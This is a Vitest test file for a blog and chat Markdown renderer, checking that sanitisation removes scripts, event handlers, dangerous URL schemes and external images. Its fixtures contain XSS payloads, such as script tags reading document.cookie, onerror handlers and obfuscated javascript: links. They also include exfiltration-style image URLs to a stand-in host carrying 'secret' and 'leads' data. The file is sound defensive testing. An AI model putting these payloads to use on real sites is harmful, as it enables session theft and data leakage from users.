import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { markdownToPlainText, renderChatMarkdown, renderMarkdown } from "./markdown";

describe("renderMarkdown", () => {
  it("renders Markdown with GitHub's extensions", () => {
    const html = renderMarkdown(
      [
        "# Planning a website",
        "",
        "Some **bold** and _emphasised_ text with `code` and a [link](https://example.com/guide).",
        "",
        "- one",
        "- two",
        "",
        "| Plan | Price |",
        "|------|-------|",
        "| Care | $99 |",
        "",
        "- [x] done",
        "",
        "```ts",
        "const x = 1;",
        "```",
      ].join("\n"),
    );
    // The post's title is the page's <h1>, so headings move down one level.
    expect(html).toContain("<h2>Planning a website</h2>");
    expect(html).not.toContain("<h1");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<em>emphasised</em>");
    expect(html).toContain("<code>code</code>");
    expect(html).toContain('<a href="https://example.com/guide" rel="noopener noreferrer">link</a>');
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<table>");
    expect(html).toContain("<td>$99</td>");
    expect(html).toContain('<input type="checkbox" checked disabled>');
    expect(html).toMatch(/<pre><code class="language-ts">const x = 1;\n<\/code><\/pre>/);
  });

  it("keeps harmless inline HTML", () => {
    const html = renderMarkdown(
      "Press <kbd>Ctrl</kbd> + <kbd>S</kbd>.\n\n<details><summary>More</summary>Hidden</details>",
    );
    expect(html).toContain("<kbd>Ctrl</kbd>");
    expect(html).toContain("<details><summary>More</summary>Hidden</details>");
  });

  it("removes scripts, styles and frames with their content", () => {
    const html = renderMarkdown(
      [
        "Before",
        "",
        "<script>alert('x')</script>",
        "",
        "<style>body { display: none }</style>",
        "",
        '<iframe src="https://evil.example/"></iframe>',
        "",
        '<object data="x.swf"></object><embed src="x.swf">',
        "",
        "<svg><script>alert(1)</script></svg>",
        "",
        "After <script>document.cookie</script>",
      ].join("\n"),
    );
    expect(html).not.toMatch(/<script|<style|<iframe|<object|<embed|<svg/i);
    expect(html).not.toContain("alert");
    expect(html).not.toContain("display: none");
    expect(html).not.toContain("document.cookie");
    expect(html).toContain("Before");
    expect(html).toContain("After");
  });

  it("drops event handler and style attributes", () => {
    const html = renderMarkdown(
      '<img src="/media/a.png" alt="A" onerror="alert(1)"> <a href="/x" onclick="steal()" style="color:red" onmouseover="x()">x</a>\n\n<p onload="x()">p</p>',
    );
    expect(html).not.toMatch(/\son[a-z]+=/i);
    expect(html).not.toContain("style=");
    expect(html).toContain('src="/media/a.png"');
    expect(html).toContain('<a href="/x">x</a>');
  });

  it("keeps tel: and mailto: links (a page's phone number and e-mail), not script or data ones", () => {
    const html = renderMarkdown(
      [
        "[Call us](tel:+1-555-010-2000)",
        "[Write to us](mailto:hello@example.com?subject=Hello)",
        '<a href="tel:+15550102001">Call the office</a>',
        "[x](javascript:alert(1)) [y](data:text/html,hi)",
      ].join("\n\n"),
    );
    expect(html).toContain('<a href="tel:+1-555-010-2000">Call us</a>');
    expect(html).toContain('<a href="mailto:hello@example.com?subject=Hello">Write to us</a>');
    expect(html).toContain('<a href="tel:+15550102001">Call the office</a>');
    expect(html).toContain("<a>x</a> <a>y</a>");
    expect(html).not.toMatch(/javascript|data:/i);
  });

  it("keeps links whose scheme is written in capitals, as the same scheme in lower case", () => {
    const html = renderMarkdown(
      [
        "[Call us](TEL:+1-555-010-2000)",
        '<a href="MailTo:hello@example.com">Write</a>',
        "[Site](HTTPS://example.com/A)",
      ].join("\n\n"),
    );
    expect(html).toContain('<a href="tel:+1-555-010-2000">Call us</a>');
    expect(html).toContain('<a href="mailto:hello@example.com">Write</a>');
    expect(html).toContain('<a href="https://example.com/A" rel="noopener noreferrer">Site</a>');
  });

  it("drops javascript:, vbscript: and data: URLs however they are spelled", () => {
    const html = renderMarkdown(
      [
        "[a](javascript:alert(1))",
        '<a href="JaVaScRiPt:alert(2)">b</a>',
        '<a href="javascript&#58;alert(3)">c</a>',
        '<a href=" javascript:alert(4)">d</a>',
        '<a href="vbscript:msgbox(5)">e</a>',
        '<a href="data:text/html,<script>alert(6)</script>">f</a>',
        "![img](data:image/svg+xml;base64,PHN2Zz4=)",
        '<img src="javascript:alert(7)" alt="g">',
      ].join("\n\n"),
    );
    expect(html).not.toMatch(/javascript|vbscript|data:/i);
    expect(html).not.toContain("alert");
    expect(html).toContain("<a>a</a>");
  });

  it("prefixes ids so content cannot clobber page globals, and keeps in-page links working", () => {
    const html = renderMarkdown(
      '<h2 id="pricing">Pricing</h2>\n\n[See pricing](#pricing)\n\nNote[^1]\n\n[^1]: A footnote.',
    );
    expect(html).toContain('id="user-content-pricing"');
    expect(html).toContain('href="#user-content-pricing"');
    expect(html).toContain('href="#user-content-fn-1"');
    expect(html).toContain('id="user-content-fn-1"');
  });

  it("gives images lazy loading and an alt attribute", () => {
    expect(renderMarkdown("![Sensor in a field](/media/sensor.jpg)")).toContain(
      '<img src="/media/sensor.jpg" alt="Sensor in a field" loading="lazy" decoding="async">',
    );
  });

  it("answers an empty string for empty input", () => {
    expect(renderMarkdown("")).toBe("");
    expect(renderMarkdown("   \n ")).toBe("");
  });
});

describe("markdownToPlainText", () => {
  it("strips markup, HTML tags and code blocks and collapses whitespace", () => {
    expect(
      markdownToPlainText(
        "## Hello\n\nThis is **some** text with a [link](https://x.test).\n\n```\ncode\n```\n\n<b>bold</b> end",
      ),
    ).toBe("Hello This is some text with a link. bold end");
  });

  it("cuts long text at a word boundary with an ellipsis", () => {
    const text = markdownToPlainText("word ".repeat(100), 30);
    expect(text.endsWith("…")).toBe(true);
    expect(text.length).toBeLessThanOrEqual(31);
    expect(text).not.toMatch(/wor…$/);
  });
});

describe("renderChatMarkdown", () => {
  const hostile = [
    "Here are **3 urgent** requests:",
    "| Name | Budget |\n|---|---|\n| Ada | $5k |",
    '<script>fetch("/api/v1/admin/users")</script>',
    '<img src="https://evil.example/x?d=secret" onerror="alert(1)">',
    "![tracker](https://evil.example/pixel.png?data=leads)",
    '<a href="javascript:alert(1)" onclick="steal()">click</a>',
    "[the guide](https://example.com/guide)",
  ].join("\n\n");

  const { document } = new JSDOM("").window;

  /** What a browser would build from the HTML: no element that runs or fetches anything. */
  function expectInert(html: string, label = "") {
    const body = document.createElement("div");
    body.innerHTML = html;
    expect(
      body.querySelectorAll("script, img, iframe, object, embed, svg, style, picture, source"),
      label,
    ).toHaveLength(0);
    for (const el of body.querySelectorAll("*")) {
      for (const attr of el.attributes) {
        expect(attr.name.startsWith("on"), `${label} ${el.tagName} ${attr.name}`).toBe(false);
        expect(attr.value, label).not.toMatch(/^\s*(javascript|vbscript|data):/i);
      }
    }
  }

  it("formats Markdown, opens external links in a new tab and shows no images", () => {
    const html = renderChatMarkdown(hostile);
    expect(html).toContain("<strong>3 urgent</strong>");
    expect(html).toContain("<td>Ada</td>");
    expect(html).toContain(
      '<a href="https://example.com/guide" rel="noopener noreferrer" target="_blank">the guide</a>',
    );
    expectInert(html);
    expect(html).not.toContain("evil.example");
  });

  it("stays sanitised for every prefix of an answer as it streams in", () => {
    for (let end = 1; end <= hostile.length; end++) {
      expectInert(renderChatMarkdown(hostile.slice(0, end)), `prefix of ${end} characters`);
    }
  });

  it("leaves the blog's rendering unchanged (images kept, links in the same tab)", () => {
    expect(renderMarkdown("![a](/media/a.png) [b](https://example.com)")).toBe(
      '<p><img src="/media/a.png" alt="a" loading="lazy" decoding="async"> <a href="https://example.com" rel="noopener noreferrer">b</a></p>',
    );
  });
});
